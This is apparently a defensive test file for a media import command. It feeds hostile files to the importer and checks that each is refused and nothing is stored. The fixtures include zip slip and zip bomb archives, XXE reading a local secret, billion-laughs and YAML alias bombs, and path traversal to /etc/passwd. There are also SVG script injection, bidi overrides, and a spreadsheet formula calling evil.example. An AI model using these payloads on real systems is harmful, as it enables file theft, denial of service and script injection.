// Files that were made to hurt: each is refused with a reason, and of what is refused nothing is stored, in no table and no folder.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { sql } from 'kysely'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { openBlobs } from '#kernel/blobs/server/blobs.ts'
import type { CommandHouse } from '#kernel/commands/command.ts'
import { act } from '#kernel/database/act.ts'
import { foundSite } from '#kernel/site/server/site-actions.ts'
import { testDatabase } from '#kernel/testing/database.ts'
import { docx, rss, type Written, WRITTEN, write, wxr } from '#rooms/media/import/testing/written-files.ts'
import { importCommand } from '#rooms/media/server/import-command.ts'
import { findPublishedItem } from '#rooms/media/server/item-queries.ts'

const { db } = await testDatabase()
const folder = mkdtempSync(join(tmpdir(), 'altavoz-hostile-'))
afterAll(() => rmSync(folder, { recursive: true }))
const blobs = await openBlobs(db, join(folder, 'blobs'))
const now = Temporal.Instant.from('2026-11-24T15:00:00Z')
let said: string[] = []
const house = { db, blobs, dataDir: folder, clock: () => now, say: (line = '') => said.push(line) } as unknown as CommandHouse
const topics = join(folder, 'topics.yaml')
const uploads = join(folder, 'uploads')
const SECRET = 'what nobody may see'

beforeAll(async () => {
  await act({ db }, async (tx) => {
    await foundSite(tx, { zone: 'America/Bogota' }, now)
  })
  writeFileSync(join(folder, 'secret.txt'), SECRET)
  writeFileSync(join(folder, 'secret.pdf'), `%PDF-1.4\n${SECRET}\n%%EOF\n`)
})
const incoming = join(folder, 'incoming')
beforeEach(() => {
  for (const one of [incoming, uploads]) {
    rmSync(one, { recursive: true, force: true })
    mkdirSync(one)
  }
  rmSync(topics, { force: true })
})

const put = (name: string, bytes: string | Buffer) => {
  writeFileSync(join(incoming, name), bytes)
  return join(incoming, name)
}
async function run(path: string) {
  said = []
  const code = (await importCommand.run(house, [path], { publish: true, lang: 'en', topics, uploads })) ?? 0
  return { code, told: said.join('\n') }
}
/** All rows of all tables, and all kept files. */
async function allThatIsStored() {
  const { rows: tables } = await sql<{ name: string }>`select tablename as name from pg_tables where schemaname = 'public' order by 1`.execute(db.read as never)
  const rows = await Promise.all(tables.map(async ({ name }) => (await sql<{ row: string }>`select to_jsonb(t)::text as row from ${sql.id(name)} t`.execute(db.read as never)).rows.map(({ row }) => `${name} ${row}`).sort()))
  expect(tables.length).toBeGreaterThan(20)
  return [...rows.flat(), ...readdirSync(join(folder, 'blobs'), { recursive: true, encoding: 'utf8' }).sort()]
}
const page = async (slug: string) => {
  const answer = (await findPublishedItem(db.read, 'en', slug, now.add({ minutes: 1 })))?.answer
  return answer?.found === 'item' ? answer.item : undefined
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'abcdefghij'[i + 1]} "${`&${'abcdefghij'[i]};`.repeat(10)}">`).join('')}]>`
const XXE = `<!DOCTYPE x [<!ENTITY j SYSTEM "file://${join(folder, 'secret.txt')}">]>`
const post = (title: string, body = 'Words.') => [{ key: 1, title, body }]
const longTitle = 'T'.repeat(10_000)

test.each<[string, string, () => string | Buffer, RegExp]>([
  ['zip slip', 'a.docx', () => docx('A', 'B', [{ name: '../../../etc/cron.d/x', data: 'x' }]), /leads out of the archive/],
  ['a zip bomb', 'a.docx', () => docx('A', 'B', [{ name: 'word/media/a.bin', data: Buffer.alloc(101 * 1024 * 1024) }]), /more than 100 MB/],
  ['a symbolic link in an archive', 'a.docx', () => docx('A', 'B', [{ name: 'word/media/a.png', data: '/etc/passwd', mode: 0o120777 }]), /symbolic link/],
  ['XXE in a Word file', 'a.docx', () => docx('A', '&j;', [], XXE), /DOCTYPE/],
  ['billion laughs in a Word file', 'a.docx', () => docx('A', '&j;', [], LAUGHS), /DOCTYPE/],
  ['XXE in an export of WordPress', 'a.xml', () => wxr(post('&j;', '&j;'), XXE), /DOCTYPE/],
  ['billion laughs in an export of WordPress', 'a.xml', () => wxr(post('&j;', '&j;'), LAUGHS), /DOCTYPE/],
  ['XXE in a feed', 'a.xml', () => rss(post('&j;', '&j;'), XXE), /DOCTYPE/],
  ['billion laughs in a feed', 'a.xml', () => rss(post('&j;', '&j;'), LAUGHS), /DOCTYPE/],
  ['aliases of YAML that multiply', 'a.md', () => `---\na: &a [x,x,x,x,x,x,x,x,x]\n${'bcdefgh'.split('').map((key, i) => `${key}: &${key} [${`*${'abcdefg'[i]},`.repeat(9)}]`).join('\n')}\ntitle: A\n---\nB.`, /front matter/],
])('%s is refused with its reason, and nothing is stored', async (_, name, bytes, reason) => {
  const path = put(name, bytes())
  const before = await allThatIsStored()
  const { code, told } = await run(path)
  expect(code).toBe(1)
  expect(told).toMatch(new RegExp(`^left out ${path}[^\n]*: it`, 'm'))
  expect(told).toMatch(reason)
  expect(told).not.toMatch(/^ok/m)
  expect(told).not.toContain(SECRET)
  expect(await allThatIsStored()).toEqual(before)
}, 120_000)

test.each(WRITTEN)('%s: a title of 10,000 characters is refused, and nothing is stored', async (kind: Written) => {
  const path = write(kind, post(longTitle), incoming)
  const before = await allThatIsStored()
  const { code, told } = await run(path)
  expect(code).toBe(1)
  expect(told).toMatch(/^left out .*(10000 characters|title)/m)
  expect(told.length).toBeLessThan(2000)
  expect(await allThatIsStored()).toEqual(before)
})

test('a link in a folder is named and not followed; what stands beside it comes', async () => {
  writeFileSync(join(folder, 'secret.md'), `---\ntitle: Secret\n---\n${SECRET}`)
  symlinkSync(join(folder, 'secret.md'), join(incoming, 'a.md'))
  put('b.md', '---\ntitle: Beside a link\n---\nWords.')
  const { code, told } = await run(incoming)
  expect(code).toBe(1)
  expect(told).toMatch(/^left out .*a\.md: it is a symbolic link/m)
  expect(told).toMatch(/^ok \S+ \/en\/media\/b /m)
  expect((await allThatIsStored()).join()).not.toContain(SECRET)
})

test('a link in the folder of uploads, and a name that leads out of it, bring nothing in', async () => {
  symlinkSync(join(folder, 'secret.pdf'), join(uploads, 'link.pdf'))
  const before = (await allThatIsStored()).filter((one) => /^(blob|picture)|^[0-9a-f]{2}/.test(one))
  const { told } = await run(put('a.md', '---\ntitle: With links\n---\n[a](/link.pdf) [b](/../secret.pdf) [c](/%2e%2e/secret.pdf) [d](file:///etc/passwd)'))
  expect(told.match(/is left out: .* does not hold it/g)).toHaveLength(3)
  expect((await allThatIsStored()).filter((one) => /^(blob|picture)|^[0-9a-f]{2}/.test(one))).toEqual(before)
  expect((await allThatIsStored()).join()).not.toContain(SECRET)
})

const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
test('script in an SVG is kept in no form: as a file, under a false name, in the page, in its address', async () => {
  writeFileSync(join(uploads, 'a.svg'), SVG)
  writeFileSync(join(uploads, 'b.png'), SVG)
  writeFileSync(join(uploads, 'c.pdf'), SVG)
  const before = (await allThatIsStored()).filter((one) => /^(blob|picture)|^[0-9a-f]{2}/.test(one))
  const { told } = await run(put('a.xml', rss([{ key: 1, slug: 'with-drawings', title: 'With drawings', body: `<img src="/a.svg"><img src="/b.png"><a href="/c.pdf">c</a>${SVG}<img src="data:image/svg+xml;base64,${Buffer.from(SVG).toString('base64')}"><a href="data:image/svg+xml,${encodeURIComponent(SVG)}">d</a>` }])))
  for (const reason of ['a drawing (SVG) was left out', 'a.svg is left out: svg', 'b.png is left out: svg', 'c.pdf is left out: it is no PDF', 'a picture that was written into the page was left out']) expect(told).toContain(reason)
  expect((await allThatIsStored()).filter((one) => /^(blob|picture)|^[0-9a-f]{2}/.test(one))).toEqual(before)
  const { bodyHtml } = (await page('with-drawings'))!
  expect(bodyHtml).not.toMatch(/<svg|<img|onload|script|data:/i)
})

test('overrides of the reading direction are taken out of every word and named', async () => {
  const { told } = await run(put('a.xml', rss([{ key: 2, slug: 'turned-around', title: 'Turned \u202earound', body: 'The words \u2066are\u2069 \u202dturned.' }])))
  expect(told).toContain('signs that turn the reading direction of words around were removed')
  expect(await page('turned-around')).toMatchObject({ title: 'Turned around' })
  expect((await allThatIsStored()).join()).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|\\u202|\\u206/)
})

test('a formula as a tag stays words in the one table that is written, a YAML file, and is read again as it was', async () => {
  const formula = `=HYPERLINK("https://evil.example/"&A1)`
  const path = put('a.md', `---\ntitle: Tagged\ntags: ['${formula}', '+1', '@x']\n---\nWords.`)
  await run(path)
  expect(readFileSync(topics, 'utf8')).not.toMatch(/^[=+@-]/m)
  expect((await run(path)).told).toContain('nothing changed')
})

test('a text that would keep the program busy for minutes is named with its place, and the others come', async () => {
  put('a.md', `---\ntitle: Hostile\n---\n${'a* '.repeat(70_000)}`)
  const numbers = Array.from({ length: 3000 }, (_, i) => i)
  const notes = numbers.map((i) => `<a href="#f${i}" id="r${i}">${i}</a>`).join('') + numbers.map((i) => `<p id="f${i}"><a href="#r${i}">x</a></p>`).join('')
  put('b.xml', wxr([{ key: 71, title: 'Before', body: 'Words.' }, { key: 72, title: 'Hostile', body: notes }, { key: 73, title: 'Behind', body: 'Words.' }]))
  put('c.md', '---\ntitle: After both\n---\nWords.')
  const before = (await allThatIsStored()).filter((one) => /hostile/i.test(one))
  const { code, told } = await run(incoming)
  expect(code).toBe(1)
  expect(told).toMatch(/^left out .*a\.md: it could not be read \(no end after 5 seconds of work\)/m)
  expect(told).toMatch(/^left out .*b\.xml, post 72, line \d+: it could not be read/m)
  for (const slug of ['post-71', 'post-73', 'c']) expect(await page(slug), slug).toBeDefined()
  expect((await allThatIsStored()).filter((one) => /hostile/i.test(one))).toEqual(before)
}, 240_000)
